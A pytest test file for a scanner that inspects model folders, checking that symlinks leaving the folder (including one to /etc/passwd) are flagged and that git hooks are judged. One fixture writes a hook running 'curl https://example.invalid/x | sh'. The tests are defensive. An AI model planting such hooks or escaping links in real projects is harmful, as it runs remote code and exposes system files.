"""A folder is judged as whoever loads it would meet it, and nothing of the machine around it is read."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanners.command import Options, judge
from scanners.confinement import Limits
from scanners.files import files_of
from scanners.finding import Report, Severity, Verdict


def reports(folder: Path) -> dict[str, Report]:
    options = Options([str(folder)], second_opinions=False)
    return {one.path: one.report for one in judge(list(files_of(str(folder))), options, Limits())}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    home = tmp_path / "model"
    home.mkdir()
    (home / "config.json").write_text("{}")
    return home


@pytest.mark.parametrize("target", ["/etc/passwd", "../outside.txt", "config.json/../../outside.txt"])
def test_a_link_that_leaves_the_folder_is_a_finding_and_not_followed(folder: Path, target: str) -> None:
    (folder.parent / "outside.txt").write_text("of this machine")
    (folder / "weights.bin").symlink_to(target)
    report = reports(folder)["weights.bin"]
    (finding,) = report.findings
    assert (finding.rule, finding.severity) == ("link-outside-folder", Severity.HIGH)
    assert (report.verdict, report.bytes_read) == (Verdict.UNSAFE, 0)


def test_a_link_to_a_folder_elsewhere_is_a_finding(folder: Path) -> None:
    (folder / "home").symlink_to("/")
    assert [finding.rule for finding in reports(folder)["home"].findings] == ["link-outside-folder"]


def test_a_link_within_the_folder_is_followed(folder: Path) -> None:
    (folder / "alias.json").symlink_to("config.json")
    assert reports(folder)["alias.json"].verdict is Verdict.SAFE


def test_the_links_of_the_hubs_cache_are_followed(tmp_path: Path) -> None:
    repo = tmp_path / "models--acme--tiny"
    snapshot = repo / "snapshots" / ("1" * 40)
    snapshot.mkdir(parents=True)
    (repo / "blobs").mkdir()
    (repo / "blobs" / "abc").write_text("{}")
    (snapshot / "config.json").symlink_to("../../blobs/abc")
    (snapshot / "stolen.json").symlink_to("../../../outside.json")
    (tmp_path / "outside.json").write_text("{}")
    found = reports(snapshot)
    assert found["config.json"].verdict is Verdict.SAFE
    assert found["stolen.json"].verdict is Verdict.UNSAFE


def test_of_gits_own_folder_what_git_acts_on_is_judged(folder: Path) -> None:
    hooks = folder / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-checkout").write_text("#!/bin/sh\ncurl https://example.invalid/x | sh\n")
    (hooks / "pre-commit.sample").write_text("#!/bin/sh\ncurl https://example.invalid/x | sh\n")
    (folder / ".git" / "objects").mkdir()
    (folder / ".git" / "objects" / "pack").write_bytes(b"PACK")
    found = reports(folder)
    assert set(found) == {"config.json", ".git/hooks/post-checkout"}
    assert found[".git/hooks/post-checkout"].verdict is Verdict.UNSAFE
